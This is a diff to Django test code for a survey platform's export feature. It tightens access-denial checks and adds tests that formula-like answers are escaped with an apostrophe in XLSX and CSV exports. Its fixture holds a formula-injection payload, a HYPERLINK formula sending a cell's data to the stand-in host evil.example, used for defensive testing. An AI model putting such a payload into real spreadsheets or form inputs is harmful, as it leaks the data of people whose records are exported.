@@ -277,7 +277,7 @@ def test_a_staff_member_without_the_export_right_cannot_open_the_export_page(cli
 
     response = client.get("/admin/data/exports/")
 
-    assert response.status_code in (302, 403)
+    assert response.status_code == 403
 
 
 def test_a_staff_member_without_the_export_right_cannot_download_a_file(
@@ -290,7 +290,7 @@ def test_a_staff_member_without_the_export_right_cannot_download_a_file(
 
     response = client.get(f"/admin/data/exports/{Export.objects.get().pk}/download/")
 
-    assert response.status_code in (302, 403)
+    assert response.status_code == 403
 
 
 def test_an_export_is_recorded_in_the_audit_log_with_who_and_what(
@@ -427,3 +427,52 @@ def test_arabic_labels_in_the_codebook_pdf_are_joined_right_to_left(
 
     # Joined letter forms (Arabic Presentation Forms-B), not the bare letters.
     assert any("\ufe70" <= character <= "\ufeff" for character in text)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klick")'
+
+
+@pytest.fixture
+def formula_wave():
+    questionnaire = QuestionnaireFactory(with_questions=False)
+    wish = add_question(questionnaire, "wunsch", Question.Kind.LONG_TEXT, "Was wünschst du dir?")
+    mood = add_question(questionnaire, "stimmung", Question.Kind.SCALE_0_10, "Wie geht's dir?")
+    wave = WaveFactory(questionnaire=questionnaire)
+    response = ResponseFactory(wave=wave)
+    answer(response, wish, FORMULA)
+    answer(response, mood, 3)
+    return wave
+
+
+def test_a_formula_answer_is_no_formula_in_the_xlsx_export(
+    client, analyst, formula_wave, tmp_path, django_capture_on_commit_callbacks
+):
+    path = export_file(
+        client, analyst, formula_wave, "xlsx", tmp_path, django_capture_on_commit_callbacks
+    )
+
+    cells = [cell for row in openpyxl.load_workbook(path).worksheets[0].iter_rows() for cell in row]
+    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
+    assert "'" + FORMULA in [cell.value for cell in cells]
+
+
+def test_a_number_stays_a_number_in_the_xlsx_export(
+    client, analyst, formula_wave, tmp_path, django_capture_on_commit_callbacks
+):
+    path = export_file(
+        client, analyst, formula_wave, "xlsx", tmp_path, django_capture_on_commit_callbacks
+    )
+
+    header, row = openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True)
+    assert dict(zip(header, row, strict=True))["stimmung"] == 3
+
+
+def test_a_formula_answer_starts_with_an_apostrophe_in_the_csv_export(
+    client, analyst, formula_wave, tmp_path, django_capture_on_commit_callbacks
+):
+    path = export_file(
+        client, analyst, formula_wave, "csv", tmp_path, django_capture_on_commit_callbacks
+    )
+
+    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    assert (row["wunsch"], row["stimmung"]) == ("'" + FORMULA, "3")
